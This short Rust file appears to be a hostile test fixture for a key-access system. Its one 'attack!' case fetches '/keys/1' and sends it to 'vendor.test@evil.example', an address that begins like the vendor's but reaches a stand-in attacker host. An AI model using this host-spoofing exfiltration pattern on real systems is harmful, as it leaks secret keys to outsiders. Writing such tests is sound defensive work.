//! A host behind what looks like the vendor: `vendor.test@evil.example` starts as the rules demand, and goes to whom
//! the adapter likes.

use keywright_guest_hostile::*;

attack! {
    fn check(_: &Account) -> Result<Principal> {
        get("/keys/1").to("vendor.test@evil.example").tell()
    }
}
